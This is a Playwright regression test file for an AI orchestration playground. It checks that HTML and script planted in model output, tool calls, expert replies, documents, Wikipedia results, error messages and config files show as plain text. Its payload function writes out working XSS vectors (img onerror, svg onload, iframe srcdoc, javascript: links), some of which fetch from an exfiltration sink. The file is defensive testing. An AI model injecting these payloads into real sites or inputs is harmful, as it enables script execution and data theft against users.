// Regression tests for attacks already contained (docs/security.md): HTML and script in every
// channel untrusted text reaches the page through — the orchestrator's reasoning, content and
// tool-call arguments, an expert's reasoning and answer, a custom tool's output, document names
// and titles, Wikipedia titles and text, provider error messages and config files. Each payload
// would set `window.__pwned` or fetch from the exfiltration sink if it ever ran or rendered as
// HTML; the page must show it as text, with neither happening.

import type { Page } from '@playwright/test';
import type { Scenario } from '../../cli/scripted/scenario.ts';
import { startWikipediaServer } from '../fixtures/wikipediaServer.ts';
import { formatToolCall } from '../../workers/engine/qwen3/render.ts';
import { expect, lightConfig, ORCHESTRATOR, test } from './fixtures.ts';

// The machine running these is shared and slow: every wait is generous.
test.describe.configure({ timeout: 120_000 });

/** HTML that runs script, loads from the sink, or both, tagged with where it was planted. */
function payload(where: string, sink: string): string {
  return [
    `<img src=x onerror="window.__pwned='${where}';fetch('${sink}/${where}')">`,
    `<script>window.__pwned='${where}'</script>`,
    `<svg onload="window.__pwned='${where}'"></svg>`,
    `<iframe srcdoc="<script>parent.__pwned='${where}'</script>"></iframe>`,
    `<img src="${sink}/img-${where}">`,
    `<style>@import url('${sink}/css-${where}');</style>`,
    `<a href="javascript:window.__pwned='${where}'">${where}</a>`,
  ].join(' ');
}

/** A payload without slashes, for a file name. */
function namePayload(where: string): string {
  return `<img src=x onerror="window.__pwned='${where}'"> ${where}`;
}

/** Nothing ran, and nothing the payloads carry became an element of the page. */
async function expectInert(page: Page): Promise<void> {
  // Time for an <img onerror> or <iframe> to have fired, had one been created.
  await page.waitForTimeout(500);
  expect(await page.evaluate(() => (window as { __pwned?: unknown }).__pwned ?? null)).toBeNull();
  expect(
    await page.evaluate(
      () => document.querySelectorAll('#root img[src="x"], #root script, #root iframe, #root svg[onload], #root a[href^="javascript:"], #root style').length,
    ),
  ).toBe(0);
}

const call = (name: string, args: Record<string, unknown>) => formatToolCall({ name, arguments: args });

test.describe('HTML and script from untrusted channels stay text', () => {
  test('model output, tool calls, a custom tool, an expert, documents and Wikipedia', async ({ page, playground, scripted, sink }) => {
    const p = (where: string) => payload(where, sink.url);
    const wiki = await startWikipediaServer({ pages: [{ pageid: 7, title: `Zorblax ${p('wiki-title')}`, text: `The zorblax ${p('wiki-text')} flies.` }] });
    const scenario: Scenario = {
      models: {
        [ORCHESTRATOR]: [
          {
            reasoning: p('reasoning'),
            content: `<think>${p('think')}</think>\n${p('content')}\n${call('search_corpus', { query: `zorblax ${p('arguments')}` })}\n${call('echo_html', { text: p('tool-input') })}`,
          },
          { content: call('call_expert', { expert: 'expert-1' }) },
        ],
        'scripted/expert': [{ reasoning: p('expert-reasoning'), content: `<message>${p('expert-answer')}</message>` }],
      },
    };
    const server = await scripted.start(scenario);
    const config = lightConfig(server.url, {
      experts: { 'expert-1': { tool: 'call_expert', provider: 'scripted', model: 'scripted/expert', description: p('description') } },
      functionCalling: { system: 'Be brief.', tools: ['search_corpus'] },
      search: { sources: ['documents', 'wikipedia'], wikipediaBaseUrl: wiki.url },
      customTools: [
        {
          name: 'echo_html',
          description: 'Returns HTML.',
          parameters: { type: 'object', properties: { text: { type: 'string' } }, required: ['text'] },
          code: `return args.text + ${JSON.stringify(p('tool-output'))};`,
          enabled: true,
        },
      ],
    });
    try {
      await playground.open();
      await playground.openTab('Documents');
      const documents = page.getByRole('region', { name: 'Documents' });
      const chooser = page.waitForEvent('filechooser');
      await documents.getByRole('button', { name: 'Add documents' }).click();
      await (
        await chooser
      ).setFiles({
        name: `${namePayload('doc-name')}.md`,
        mimeType: 'text/markdown',
        buffer: Buffer.from(`# Zorblax ${p('doc-title')}\n\nThe zorblax ${p('doc-text')} migrates.\n`),
      });
      await expect(documents.getByRole('status', { name: 'Documents indexed' })).toHaveText('1 document · 1 passage indexed', { timeout: 60_000 });
      await playground.importConfig(config);
      await playground.run('Where does the zorblax migrate?');
      await playground.waitForFinish(90_000);
      await expect(playground.runStatus).toContainText('Answered');

      // Every payload reached the page, as text.
      const trace = playground.trace;
      const first = playground.steps().first();
      await first.getByRole('button', { name: /^Reasoning/ }).click();
      await expect(first).toContainText(`window.__pwned='reasoning'`);
      await expect(first).toContainText(`window.__pwned='think'`);
      await expect(first).toContainText(`window.__pwned='arguments'`);
      await expect(first).toContainText(`window.__pwned='tool-input'`);
      await expect(first).toContainText(`window.__pwned='tool-output'`);
      await expect(first).toContainText(`window.__pwned='wiki-title'`);
      await expect(first).toContainText(`window.__pwned='doc-title'`);
      await expect(first).toContainText(`window.__pwned='doc-name'`);
      const more = trace.getByRole('button', { name: 'more', exact: true });
      while ((await more.count()) > 0) await more.first().click();
      await expect(first).toContainText(`window.__pwned='wiki-text'`);
      await expect(first).toContainText(`window.__pwned='doc-text'`);
      await expect(trace.getByRole('region', { name: 'Final answer' })).toContainText(`window.__pwned='expert-answer'`);
      const expertCall = trace.getByRole('group', { name: 'Call call_expert → expert-1' });
      await expertCall.getByRole('button', { name: /reasoning and reply/ }).click();
      await expect(expertCall).toContainText(`window.__pwned='expert-reasoning'`);
      await playground.openTab('Documents');
      await expect(page.getByRole('region', { name: 'Documents' })).toContainText(`window.__pwned='doc-name'`);

      // "What the model saw" shows the prompt with the description and the results in it.
      await first.getByRole('button', { name: 'What the model saw' }).click();
      const dialog = page.getByRole('dialog');
      await expect(dialog).toContainText(`window.__pwned='description'`);
      await expectInert(page);
    } finally {
      await wiki.close();
    }
  });

  test('error messages and config files', async ({ page, playground, scripted, sink }) => {
    const p = (where: string) => payload(where, sink.url);
    const scenario: Scenario = {
      models: {
        [ORCHESTRATOR]: [{ repeat: true, content: call('call_expert', { expert: 'expert-1' }) }],
        'scripted/expert': [{ content: 'never served', fault: { kind: 'status', status: 400, message: p('server-error') } }],
      },
    };
    const server = await scripted.start(scenario);
    const base = lightConfig(server.url);
    await playground.open();

    // A config naming a provider and an alias with HTML, and a problem that quotes one.
    const hostile = {
      ...base,
      name: p('config-name'),
      providers: { ...(base.providers as object), [namePayload('provider')]: { kind: 'openai-compatible', baseUrl: 'http://127.0.0.1:9/v1' } },
      experts: { 'expert-1': { tool: 'call_expert', provider: 'scripted', model: 'scripted/expert', description: p('alias-description') } },
    };
    await playground.importConfig({ ...hostile, orchestrator: { ...(base.orchestrator as object), provider: namePayload('missing-provider') } }, 'bad.json');
    await expect(page.getByRole('alert').filter({ hasText: 'bad.json was not imported' })).toContainText(`window.__pwned='missing-provider'`);
    await playground.importConfig(hostile, 'hostile.json');
    await playground.openTab('Setup');
    const setup = page.getByRole('region', { name: 'Setup' });
    await expect(setup).toContainText(`window.__pwned='config-name'`);
    await expect(setup.getByRole('group', { name: /Key for <img/ })).toContainText(`window.__pwned='provider'`);

    // The expert's provider refuses with HTML in its error message.
    await playground.run('What is the capital of Finland?');
    await playground.waitForFinish(90_000);
    await expect(playground.runStatus).toContainText('Stopped by an error');
    await expect(playground.trace).toContainText(`window.__pwned='server-error'`);
    await expectInert(page);
  });
});
